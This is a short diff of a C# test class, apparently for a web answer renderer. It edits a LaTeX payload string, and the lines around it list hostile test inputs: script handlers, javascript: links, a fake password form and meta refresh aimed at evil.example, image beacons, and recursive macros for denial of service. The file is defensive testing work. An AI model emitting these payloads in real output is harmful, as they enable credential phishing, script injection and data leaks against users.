@@ -24,7 +24,7 @@ public sealed class HostileAnswerTests(WebWorld world)
         "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
         "<form action=https://evil.example/><input name=password autofocus><button>Sign in</button></form>",
         "<svg><animate onbegin=window.pwned=1 attributeName=x></svg><svg onload=window.pwned=1>",
-        "$\\href{javascript:window.pwned=1}{x}$ $\\includegraphics{https://evil.example/k.png}$ $\\htmlStyle{background:url(https://evil.example/h)}{x}$",
+        "$$\\href{javascript:window.pwned=1}{x}$$ \\(\\includegraphics{https://evil.example/k.png}\\) $$\\htmlStyle{background:url(https://evil.example/h)}{x}$$",
         "$$\\def\\a{\\a\\a}\\a$$ $$\\rule{1000000em}{1000000em}$$",
         "```html\n<img src=https://evil.example/c.png onerror=window.pwned=1>\n```\n\n```<img/src=x>\ncode\n```",
         "[ref]: https://evil.example/r.png\n\n![x][ref] <https://evil.example/auto> https://evil.example/bare",
